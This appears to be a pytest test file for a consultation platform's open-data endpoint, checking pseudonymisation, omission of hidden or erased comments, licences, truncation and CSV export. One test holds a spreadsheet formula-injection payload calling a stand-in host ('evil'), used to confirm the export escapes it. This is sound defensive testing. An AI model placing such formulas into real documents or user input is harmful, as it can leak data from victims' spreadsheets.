"""GET /v1/consultations/{id}/open-data: a public consultation's debates, results and
arguments under per-consultation pseudonyms (acceptance 3 of issue 18: a public
consultation's open data names no person)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest

from chalicelib.domain import clock
from chalicelib.services import closer, publication
from chalicelib.settings import get_settings
from tests.api.helpers import (
    add_member,
    create_consultation,
    create_group,
    dynamodb_requests,
    publish,
    travel,
)

GRACE = timedelta(seconds=60)
WEEK = timedelta(days=7)

# Everyone who takes part below: their ids, their token's names and emails, the names they
# chose. None of it may appear in open data.
PEOPLE = {
    "u-admin-51d2": ("Agathe Dupuis", "agathe.dupuis@example.org"),
    "u-alice-8c1f": ("Alice Martin", "alice.martin@example.org"),
    "u-bob-3e77": ("Bruno Leroy", "bruno.leroy@example.org"),
    "u-carol-92ab": ("Carole Petit", "carole.petit@example.org"),
    "u-dave-0f4e": ("Damien Roux", "damien.roux@example.org"),
    "u-erin-6a10": ("Erwan Morel", "erwan.morel@example.org"),
    "u-resident-77c3": ("Rosa Garnier", "rosa.garnier@example.org"),
    "u-pia-2b9d": ("Pia Lambert", "pia.lambert@example.org"),
}
CHOSEN_NAME = "Alice la Jardinière"


@pytest.fixture
def town(as_user):
    """A public consultation (anyone signed in takes part) of an association, shared with a
    partner association, with a vote and a debate without decision."""

    def person(sub: str) -> Any:
        name, email = PEOPLE[sub]
        return as_user(sub, name=name, email=email, verified=True)

    admin = person("u-admin-51d2")
    group_id = create_group(admin, "Quartier Nord")
    users = {"admin": admin}
    for key, sub in (
        ("alice", "u-alice-8c1f"),
        ("bob", "u-bob-3e77"),
        ("carol", "u-carol-92ab"),
        ("dave", "u-dave-0f4e"),
        ("erin", "u-erin-6a10"),
    ):
        users[key] = add_member(lambda s, **_: person(s), admin, group_id, sub, "participant")
    users["alice"].patch("/v1/me", {"display_name": CHOSEN_NAME}, expect=200)
    users["resident"] = person("u-resident-77c3")
    partner_admin = person("u-pia-2b9d")
    partner = create_group(partner_admin, "Voisins du Sud")
    users["pia"] = partner_admin
    users["anonymous"] = as_user(None)
    cid = create_consultation(
        admin, group_id, "Aménager la place", visibility="public", participation="signed_in"
    )["id"]
    admin.post(f"/v1/consultations/{cid}/partners", {"group_id": partner}, expect=201)
    partner_admin.post(f"/v1/consultations/{cid}/partners/{partner}/accept", expect=201)
    debates = {
        "vote": admin.post(
            f"/v1/consultations/{cid}/debates",
            {"title": "Des arbres", "body": "Planter dix arbres.", "function": {"type": "vote"}},
        ).data["id"],
        "talk": admin.post(
            f"/v1/consultations/{cid}/debates", {"title": "Idées", "function": {"type": "none"}}
        ).data["id"],
    }
    publish(admin, cid)
    return cid, group_id, debates, users


def say(user: Any, debate_id: str, body: str, **fields: Any) -> str:
    made = user.post(f"/v1/debates/{debate_id}/comments", {"body": body, **fields})
    assert made.status_code == 201, made.data
    return made.data["id"]


def erase_author(comment_id: str) -> None:
    """What an erasure leaves of a comment (issue 18): no text, no name, a pseudonym."""
    from chalicelib.store.comments import comment_key
    from chalicelib.store.models.comments import CommentItem

    item = CommentItem.get(*comment_key(comment_id))
    item.update(
        actions=[
            CommentItem.body.set(""),
            CommentItem.history.set("[]"),
            CommentItem.author_name.set(""),
            CommentItem.author_id.set("erased-0123456789abcdef"),
        ]
    )


@pytest.fixture
def argued(town):
    """Arguments and replies of members, a partner's member and a resident; one hidden by a
    moderator, one deleted by its author, one whose author was erased."""
    cid, _, debates, users = town
    vote, talk = debates["vote"], debates["talk"]
    said = {
        "alice": say(users["alice"], vote, "Oui, de l'ombre l'été.", stance="pro"),
        "alice_again": say(users["alice"], talk, "Et des bancs."),
        "resident": say(users["resident"], vote, "Trop cher.", stance="con"),
        "pia": say(users["pia"], vote, "Nous aiderons à planter."),
        "carol": say(users["carol"], vote, "Texte injurieux"),
        "dave": say(users["dave"], vote, "Je retire ceci"),
        "erin": say(users["erin"], vote, "Un texte que son auteur a effacé"),
    }
    said["bob_reply"] = say(users["bob"], vote, "D'accord avec toi.", parent_id=said["alice"])
    users["admin"].post(f"/v1/comments/{said['carol']}/hide", {"reason": "Injure"}, expect=200)
    users["dave"].delete(f"/v1/comments/{said['dave']}", expect=204)
    erase_author(said["erin"])
    return cid, debates, users, said


def open_data(user: Any, consultation_id: str, **kw: Any) -> Any:
    return user.get(f"/v1/consultations/{consultation_id}/open-data", **kw)


def test_a_public_consultations_open_data_names_no_person(argued):
    cid, _, users, _ = argued
    answer = open_data(users["anonymous"], cid, expect=200)
    text = answer.body.decode("utf-8")
    document = json.dumps(answer.data, ensure_ascii=False)
    for sub, (name, email) in PEOPLE.items():
        for trace in (sub, name, email, email.split("@")[0], name.split()[0]):
            assert trace not in text and trace not in document, trace
    assert CHOSEN_NAME not in document
    assert "erased-" not in document


def test_open_data_carries_the_debates_and_the_published_arguments(argued):
    cid, debates, users, said = argued
    data = open_data(users["anonymous"], cid).data
    assert data["format"] == "hub-open-data-1"
    assert data["licence"] == {
        "name": "Licence Ouverte 2.0",
        "url": "https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
    }
    assert data["consultation"]["title"] == "Aménager la place"
    assert data["consultation"]["host_group_name"] == "Quartier Nord"
    assert data["consultation"]["status"] == "open"
    assert [d["id"] for d in data["debates"]] == [debates["vote"], debates["talk"]]
    vote, talk = data["debates"]
    assert vote["body"] == "Planter dix arbres."
    assert [o["key"] for o in vote["options"]] == ["yes", "no", "abstain"]
    assert vote["result"] is None  # not final yet
    assert talk["type"] == "none" and talk["options"] == [] and talk["result"] is None
    published = {a["id"]: a for a in data["arguments"]}
    assert set(published) == {
        said[k] for k in ("alice", "alice_again", "resident", "pia", "bob_reply")
    }
    reply = published[said["bob_reply"]]
    assert reply["parent_id"] == said["alice"]
    assert reply["body"] == "D'accord avec toi."
    assert published[said["resident"]]["stance"] == "con"
    assert data["truncated"] is False


def test_hidden_deleted_and_erased_comments_are_left_out_text_and_all(argued):
    cid, _, users, said = argued
    answer = open_data(users["anonymous"], cid)
    ids = {a["id"] for a in answer.data["arguments"]}
    assert not ids & {said["carol"], said["dave"], said["erin"]}
    for text in ("Texte injurieux", "Injure", "Je retire ceci", "effacé"):
        assert text not in answer.body.decode("utf-8"), text


def test_authors_are_pseudonyms_stable_within_a_consultation_and_apart_across_them(argued):
    cid, _, users, said = argued
    authors = {a["id"]: a["author"] for a in open_data(users["anonymous"], cid).data["arguments"]}
    assert all(re.fullmatch(r"p-[0-9a-f]{12}", author) for author in authors.values())
    assert authors[said["alice"]] == authors[said["alice_again"]]
    assert len({authors[said[k]] for k in ("alice", "resident", "pia", "bob_reply")}) == 4
    # alice in another public consultation of the same association: another pseudonym
    admin = users["admin"]
    group_id = admin.get(f"/v1/consultations/{cid}").data["group_id"]
    other = create_consultation(admin, group_id, "Autre", visibility="public")["id"]
    debate = admin.post(
        f"/v1/consultations/{other}/debates", {"title": "T", "function": {"type": "none"}}
    ).data["id"]
    publish(admin, other)
    say(users["alice"], debate, "Encore moi.")
    [elsewhere] = open_data(users["anonymous"], other).data["arguments"]
    assert elsewhere["author"] != authors[said["alice"]]
    again = {a["id"]: a["author"] for a in open_data(users["alice"], cid).data["arguments"]}
    assert again == authors  # the same whoever asks, whenever


def test_final_results_appear_once_the_closer_has_recounted(town, monkeypatch):
    cid, _, debates, users = town
    for voter, choice in (("alice", "yes"), ("resident", "yes"), ("bob", "no")):
        users[voter].put(f"/v1/debates/{debates['vote']}/ballot", {"choice": choice}, expect=201)
    travel(monkeypatch, WEEK + GRACE)
    closer.close_due_consultations(clock.now())
    data = open_data(users["anonymous"], cid).data
    assert data["consultation"]["status"] == "closed"
    vote, talk = data["debates"]
    assert vote["result"]["counts"] == {"yes": 2, "no": 1, "abstain": 0}
    assert vote["result"]["ballots"] == 3
    assert vote["result"]["outcome"]["result"] == "adopted"
    assert talk["result"] is None


@pytest.fixture
def licence() -> Iterator[None]:
    names = ("HUB_OPEN_DATA_LICENCE", "HUB_OPEN_DATA_LICENCE_URL")
    before = {name: os.environ.get(name) for name in names}
    os.environ["HUB_OPEN_DATA_LICENCE"] = "ODbL 1.0"
    os.environ["HUB_OPEN_DATA_LICENCE_URL"] = "https://opendatacommons.org/licenses/odbl/1-0/"
    get_settings.cache_clear()
    try:
        yield
    finally:
        for name, value in before.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value
        get_settings.cache_clear()


def test_the_licence_is_the_one_the_city_chose(town, licence):
    cid, _, _, users = town
    assert open_data(users["anonymous"], cid).data["licence"] == {
        "name": "ODbL 1.0",
        "url": "https://opendatacommons.org/licenses/odbl/1-0/",
    }


def test_a_consultation_that_is_not_public_has_no_open_data(town):
    _, group_id, _, users = town
    admin = users["admin"]
    members_only = create_consultation(admin, group_id, "Entre nous")["id"]
    publish(admin, members_only)
    refused = open_data(users["alice"], members_only, expect=409)
    assert refused.data["error"]["code"] == "not_public"
    french = open_data(users["alice"], members_only, headers={"Accept-Language": "fr"})
    assert "publique" in french.data["error"]["message"]
    for stranger in (users["resident"], users["anonymous"]):
        hidden = open_data(stranger, members_only, expect=404)
        assert hidden.data["error"]["code"] == "consultation_not_found"
    # a public consultation still a draft is not public yet: its editors are told so
    draft = create_consultation(admin, group_id, "Bientôt", visibility="public")["id"]
    assert open_data(admin, draft, expect=409).data["error"]["code"] == "not_public"
    assert open_data(users["anonymous"], draft, expect=404)
    assert open_data(users["anonymous"], "nothing-here", expect=404)


def test_a_former_member_and_an_observer_read_public_open_data_like_anyone(town, as_user):
    cid, group_id, _, users = town
    users["bob"].delete(f"/v1/groups/{group_id}/members/u-bob-3e77", expect=204)
    assert open_data(users["bob"], cid).status_code == 200
    olga = add_member(as_user, users["admin"], group_id, "u-olga", "observer")
    assert open_data(olga, cid).status_code == 200


def test_at_most_so_many_comments_are_read_and_the_document_says_it_is_cut(argued, monkeypatch):
    cid, _, users, _ = argued
    monkeypatch.setattr(publication, "MAX_ARGUMENTS", 3)
    data = open_data(users["anonymous"], cid).data
    assert data["truncated"] is True
    assert len(data["arguments"]) <= 3
    monkeypatch.setattr(publication, "MAX_ARGUMENTS", 8)  # exactly the 8 comments stored
    data = open_data(users["anonymous"], cid).data
    assert data["truncated"] is False
    assert len(data["arguments"]) == 5


def test_open_data_reads_each_debates_comments_in_one_query(argued):
    """The consultation, its host, its debates, then one Query per debate's comments (the
    results' Query joins once the consultation is final)."""
    cid, debates, users, _ = argued
    with dynamodb_requests() as sent:
        open_data(users["anonymous"], cid, expect=200)
    assert [r.operation for r in sent] == ["BatchGetItem", "BatchGetItem", "Query"] + [
        "Query"
    ] * len(debates)


def test_the_arguments_as_a_spreadsheet_say_what_the_document_says_naming_nobody(argued):
    cid, debates, users, _ = argued
    formula = say(users["bob"], debates["talk"], '=IMPORTXML("http://evil")')
    data = open_data(users["anonymous"], cid).data
    sheet = open_data(users["anonymous"], cid, headers={"Accept": "text/csv"}, expect=200)
    assert sheet.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert sheet.headers["Content-Disposition"] == f'attachment; filename="arguments-{cid}.csv"'
    text = sheet.body.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    assert [(r["argument_id"], r["author"]) for r in rows] == [
        (a["id"], a["author"]) for a in data["arguments"]
    ]
    assert {r["consultation_id"] for r in rows} == {cid}
    [injected] = [r for r in rows if r["argument_id"] == formula]
    assert injected["body"] == '\'=IMPORTXML("http://evil")'
    for sub, (name, email) in PEOPLE.items():
        assert sub not in text and name not in text and email not in text
    for hidden in ("Texte injurieux", "Je retire ceci", "effacé"):
        assert hidden not in text
